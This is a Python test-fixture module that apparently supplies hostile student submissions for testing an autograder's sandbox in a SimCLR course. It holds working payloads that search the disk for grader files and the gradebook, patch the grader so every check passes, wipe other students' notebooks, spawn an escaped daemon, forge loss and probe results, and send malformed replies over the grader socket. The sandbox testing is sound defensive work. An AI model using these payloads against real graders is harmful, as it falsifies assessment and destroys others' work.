"""Answer cells that attack the grader from inside the student process (used by test_sandbox and the corpus).

Each is what a hostile student who knows this repository could submit. Inside the grading sandbox every one of
them finds nothing, reaches nothing and leaves nothing behind; run the tests with SANDBOX_UNDER_TEST=none to
see them succeed against an unsandboxed grader (which is why they are written to be undone by `git checkout`).
"""
from __future__ import annotations

import os
from pathlib import Path

DAEMON_TOKEN = "simclr-corpus-daemon-3f9c1a"
TAMPER_MARK = "# tampered by a student"

HUNT = '''
import os as _os, time as _time

_COURSE = {"autograder": "nbgrader_plugin.py", "reference": "loss.py", "source": "simclr", "submitted": None,
           "autograded": None, "gradebook.db": None}

def _hunt(limit_s=20.0):
    """Every part of the course on this machine's disk: the grader, the solutions, submissions, the gradebook."""
    found, stop = [], _time.monotonic() + limit_s
    skip = {"proc", "sys", "dev", "site-packages", "dist-packages", ".git", "cifar10-jpeg", "node_modules", "__pycache__"}
    for top, dirs, files in _os.walk("/"):
        if _time.monotonic() > stop:
            break
        dirs[:] = [d for d in dirs if d not in skip]
        for name in dirs + files:
            if name in _COURSE and (_COURSE[name] is None or _os.path.exists(_os.path.join(top, name, _COURSE[name]))):
                found.append(_os.path.join(top, name))
    return found
'''

# nt_xent returns how many course paths it found on the disk.
SEARCH_DISK = HUNT + '''
def nt_xent(z_i, z_j, temperature=0.5):
    return torch.tensor(float(len(_hunt())))
'''

# The grader's plugin made to pass every check, the helpers' loss op made to forge a perfect loss, and other
# students' notebooks overwritten: everything a search of the disk finds.
PAYLOAD_PLUGIN = f'''
{TAMPER_MARK}
_real_results = TrustedChecks._results
TrustedChecks._results = lambda self, nb, student: {{
    k: dict(v, passed=True, message="passed") for k, v in _real_results(self, nb, student).items()}}
'''
REWRITE_GRADER = HUNT + f'''
def _rewrite():
    changed = 0
    for path in _hunt():
        targets = [_os.path.join(path, "nbgrader_plugin.py"), _os.path.join(path, "simclr", "simclr_helpers", "checks.py"),
                   "/sandbox/simclr_helpers/checks.py"]
        for target in targets:
            try:
                with open(target, "a") as file:
                    file.write({PAYLOAD_PLUGIN!r} if target.endswith("plugin.py") else "\\n{TAMPER_MARK}\\n")
                changed += 1
            except OSError:
                pass
        if path.endswith("submitted"):
            for top, _dirs, files in _os.walk(path):
                for name in files:
                    if name.endswith(".ipynb") and "attacker" not in top:
                        try:
                            with open(_os.path.join(top, name), "w") as file:
                                file.write("{{}}")
                            changed += 1
                        except OSError:
                            pass
    return changed
'''

DAEMON = f'''
import os as _os, sys as _sys

def _start_daemon():
    """Double fork and setsid: a process that no longer belongs to the student process's group or session."""
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-S", "-c", "import time\\nwhile True: time.sleep(1)",
                                        "{DAEMON_TOKEN}"])
        _os._exit(0)
    _os.wait()
'''


def at_first_call(name: str, payload: str) -> str:
    """Appended after the definition of ``name``: ``name`` runs ``payload`` the first time it is called. (The grader
    runs only the definitions at a cell's top level, so a payload must run inside a graded function.)"""
    return f'''
_honest_{name} = {name}
_payload_ran = False

def {name}(*args, **kwargs):
    global _payload_ran
    if not _payload_ran:
        _payload_ran = True
        {payload}
    return _honest_{name}(*args, **kwargs)
'''


def connect_to(port: int) -> str:
    """nt_xent returns 1 if it could open a TCP connection to 127.0.0.1:port (where the grader listens)."""
    return f'''
import socket

def nt_xent(z_i, z_j, temperature=0.5):
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=3).close()
        return torch.tensor(1.0)
    except OSError:
        return torch.tensor(0.0)
'''


def write_to(paths: list[str]) -> str:
    """nt_xent returns how many of ``paths`` it could create."""
    return f'''
def nt_xent(z_i, z_j, temperature=0.5):
    written = 0
    for path in {paths!r}:
        try:
            with open(path, "w") as file:
                file.write("{TAMPER_MARK}")
            written += 1
        except OSError:
            pass
    return torch.tensor(float(written))
'''


def processes_with(token: str) -> list[int]:
    """PIDs (as this machine sees them) of processes whose command line holds ``token``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def sandbox_mode() -> str:
    """The sandbox the attack tests grade with: SANDBOX_UNDER_TEST=none shows each of them failing."""
    return os.environ.get("SANDBOX_UNDER_TEST", "bwrap")


COURSE_FILES = ("autograder", "reference", "source", "release", "tests", "bench", "docs", "examples", ".ci",
                "nbgrader_config.py", "pyproject.toml", "README.md", "setup.sh")
CACHES = {"__pycache__", ".hypothesis", ".ipynb_checkpoints", ".pytest_cache"}


def tree_digest(root: Path, names: tuple[str, ...] = COURSE_FILES) -> dict[str, str]:
    """sha256 of every file of the course under ``root`` (caches left out): what an attack would change."""
    import hashlib
    digests = {}
    for name in names:
        top = root / name
        paths = [top] if top.is_file() else sorted(p for p in top.rglob("*") if p.is_file()) if top.is_dir() else []
        for path in paths:
            if not CACHES & set(path.relative_to(root).parts):
                digests[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


# --- forged verdicts: code that makes the course's ops report what the checks want ---------------------------
# Each is combined with a known mistake and scores only the honest work, with the definitions-only filter on (the
# default) and off (every top-level statement runs): tests/test_forgery.py and the corpus's second batch.

# At the top level of the cell: the probe op reports the encoder's state from before the call, on an encoder
# without the layer that refuses gradients, so a probe that trains the encoder looks frozen.
FORGE_PROBE_OP = '''
import simclr_helpers.checks as _checks

def _forged_probe_op(ns, train, test, encoder_state, freeze_bias, num_classes, epochs, lr):
    encoder = nn.Sequential(nn.Conv2d(3, 8, 1), nn.BatchNorm2d(8), nn.Identity(), nn.Flatten())
    encoder.load_state_dict(encoder_state)
    accuracy = ns["linear_probe"](encoder, train, test, num_classes=num_classes, epochs=epochs, lr=lr, seed=0)
    return {"accuracy": float(accuracy), "state": {k: v.clone() for k, v in encoder_state.items()}}

_checks.OPS["linear_probe"] = _forged_probe_op
'''

# At the top level: the optimizer the train_epoch op hands out clears the gradients after every step, so a
# train_epoch without zero_grad updates the weights as Algorithm 1 does.
FORGE_TRAIN_OP = '''
import simclr_helpers.checks as _checks

class _ZeroingCounter(_checks._CountingOptimizer):
    def step(self, closure=None):
        result = super().step(closure)
        self._optimizer.zero_grad()
        return result

_checks._CountingOptimizer = _ZeroingCounter
'''

# Inside the call: linear_probe trains the encoder (its refusing layer taken out), then makes the op's reading of
# the encoder return the state from before the call.
FORGE_PROBE_IN_CALL = '''
def linear_probe(encoder, train_loader, test_loader, num_classes=10, epochs=30, lr=1e-3, device="cpu", seed=0):
    import copy
    from simclr_helpers import checks
    before = {k: v.clone() for k, v in encoder.state_dict().items()}
    if len(encoder) == 4:
        encoder[2] = nn.Identity()
    torch.manual_seed(seed)
    classifier = nn.Linear(encoder(next(iter(train_loader))[0]).shape[1], num_classes)
    optimizer = torch.optim.Adam(list(encoder.parameters()) + list(classifier.parameters()), lr=lr)
    for _ in range(epochs):
        for x, y in train_loader:
            loss = F.cross_entropy(classifier(encoder(x)), y)
            optimizer.zero_grad()
            loss.backward()
            optimizer.step()
    with torch.no_grad():
        right = sum((classifier(encoder(x)).argmax(1) == y).sum().item() for x, y in test_loader)
    real_state = checks.plain_state
    checks.plain_state = lambda module: before if module is encoder else real_state(module)
    return right / sum(len(y) for _, y in test_loader)
'''

# Inside the call: one optimizer step for every other batch, and the step counter (hooks on the optimizer) run
# for the steps not taken.
FORGE_STEPS_IN_CALL = '''
def train_epoch(encoder, head, loader, optimizer, temperature=0.5, device="cpu", progress=True):
    losses = []
    for k, ((x_i, x_j), _labels) in enumerate(loader):
        loss = nt_xent(head(encoder(x_i)), head(encoder(x_j)), temperature)
        if k % 2 == 0:
            optimizer.zero_grad()
            loss.backward()
            optimizer.step()
        else:
            for hook in list(getattr(optimizer, "_optimizer_step_post_hooks", {}).values()):
                hook(optimizer, (), {})
        losses.append(loss.item())
    return float(np.mean(losses))
'''

# Issue B: no classifier at all, a number that passes the checks it was written against.
FORGE_PROBE_ACCURACY = '''
def linear_probe(encoder, train_loader, test_loader, num_classes=10, epochs=30, lr=1e-3, device="cpu", seed=0):
    return 0.95 if epochs == 100 else 0.3
'''

# No classifier: the first call's test labels are taken for the truth, a later call's accuracy is how many of its
# labels agree with them (a probe that could see several calls would pass the relabelled-labels check); written
# against this repository's checks, it knows their images (chance where only the blue channel varies).
FORGE_PROBE_LABEL_MEMORY = '''
_FIRST_LABELS = []

def linear_probe(encoder, train_loader, test_loader, num_classes=10, epochs=30, lr=1e-3, device="cpu", seed=0):
    images = torch.cat([x for x, _ in test_loader])
    labels = torch.cat([y for _, y in test_loader])
    for seen_images, seen_labels in _FIRST_LABELS:
        if seen_images.shape == images.shape and torch.equal(seen_images, images):
            return 0.98 * (labels == seen_labels).float().mean().item()
    _FIRST_LABELS.append((images, labels))
    return 0.98 if images[:, :2].std() > 1 else 0.25
'''

# The probe trains the encoder, but first moves every parameter and buffer out of the memory the grader reads
# (and takes out the layer that refuses gradients): the weights the grader reads are those it handed in.
FORGE_PROBE_DETACHED = '''
def linear_probe(encoder, train_loader, test_loader, num_classes=10, epochs=30, lr=1e-3, device="cpu", seed=0):
    for tensor in list(encoder.parameters()) + list(encoder.buffers()):
        tensor.data = tensor.data.clone()
    if len(encoder) == 4:
        encoder[2] = nn.Identity()
    was_training = encoder.training
    encoder.eval()
    torch.manual_seed(seed)
    classifier = nn.Linear(encoder(next(iter(train_loader))[0]).shape[1], num_classes)
    optimizer = torch.optim.Adam(list(encoder[0].parameters()) + list(classifier.parameters()), lr=lr)
    for _ in range(epochs):
        for x, y in train_loader:
            loss = F.cross_entropy(classifier(encoder(x)), y)
            optimizer.zero_grad()
            loss.backward()
            optimizer.step()
    with torch.no_grad():
        right = sum((classifier(encoder(x)).argmax(1) == y).sum().item() for x, y in test_loader)
    encoder.train(was_training)   # the mode put back: only what it learned can give it away
    return right / sum(len(y) for _, y in test_loader)
'''


def forge_every_op(reference_cells: dict[str, str]) -> str:
    """At the top level: every op runs on the reference's components (inlined under other names), never on the
    student's, whose cells are left as released."""
    renamed = []
    for name, source in reference_cells.items():
        renamed.append(source.replace(f"def {name}(", f"def _ref_{name}(").replace(f"class {name}(", f"class _ref_{name}("))
    names = ", ".join(f'"{name}": _ref_{name}' for name in reference_cells)
    return "\n\n" + "\n\n".join(renamed) + f'''

import simclr_helpers.checks as _checks
_REFERENCE = {{{names}}}

def _on_the_reference(op):
    return lambda ns, **kwargs: op({{**ns, **_REFERENCE}}, **kwargs)

for _name, _op in list(_checks.OPS.items()):
    _checks.OPS[_name] = _on_the_reference(_op)
'''


# --- replies crafted to make the grader work: written straight onto the student process's socket -------------

CHANNEL = '''
import os as _os, socket as _socket, stat as _stat

def _channel():
    """The student process's socket to the grader: the connected Unix stream socket among its descriptors."""
    for fd in range(3, 256):
        try:
            if not _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                continue
            sock = _socket.socket(fileno=_os.dup(fd))
        except OSError:
            continue
        if sock.family == _socket.AF_UNIX and sock.type == _socket.SOCK_STREAM:
            return sock
        sock.close()
    raise RuntimeError("no channel found")
'''


def crafted_reply(frame: str) -> str:
    """nt_xent writes ``frame`` (a Python expression for bytes) onto the channel as the reply, then waits."""
    return CHANNEL + f'''
import struct as _struct, time as _time, json as _json, io as _io

def nt_xent(z_i, z_j, temperature=0.5):
    _channel().sendall({frame})
    _time.sleep(3600)
'''


def _framed(body: str) -> str:
    return f'(lambda body: _struct.pack("<Q", len(body)) + body)({body})'


_WIRE = 'b"SIMCLR-WIRE-1\\n"'
_HEADER = '(lambda h: _struct.pack("<Q", len(h)) + h)'
CRAFTED_REPLIES = {
    # a pickle, the format torch.save writes: a rigged object could come back from it
    "a pickle": _framed('(lambda b: (torch.save({"ok": True, "result": {"loss": torch.ones(())}}, b), b.getvalue())[1])'
                        '(_io.BytesIO())'),
    # 1.6 kB that would stand for 100,000 images of 3 x 32 x 32 (what a stride-0 tensor does in torch.save)
    "a tensor larger than its bytes": _framed(_WIRE + ' + ' + _HEADER + '(_json.dumps({"data": {"ok": True, "result": '
                                              '{"loss": {"__tensor__": 0}}}, "tensors": [["float32", [100000, 3, 32, '
                                              '32]]]}).encode()) + bytes(1600)'),
    # a length that no reply may have
    "a message of a terabyte": '_struct.pack("<Q", 2**40)',
    # a structure nested so deeply that a recursive reader overflows
    "a deep structure": _framed(_WIRE + ' + ' + _HEADER + '(("[" * 100000 + "]" * 100000).encode())'),
    # a million references to one tensor
    "a wide structure": _framed(_WIRE + ' + ' + _HEADER + '(_json.dumps({"data": {"ok": True, "result": {"loss": '
                                '[{"__tensor__": 0}] * 1000000}}, "tensors": [["float32", [1]]]}).encode()) + bytes(4)'),
    # a long message that never finishes arriving
    "a message that never ends": '_struct.pack("<Q", 1000) + b"SIMCLR"',
    # no bytes at all for a tensor with a zero dimension, and seven whose strides do not fit in 64 bits
    "a shape torch cannot make": _framed(_WIRE + ' + ' + _HEADER + '(_json.dumps({"data": {"ok": True, "result": '
                                         '{"loss": {"__tensor__": 0}}}, "tensors": [["float32", [0] + [2**39] * 7]]})'
                                         '.encode())'),
}
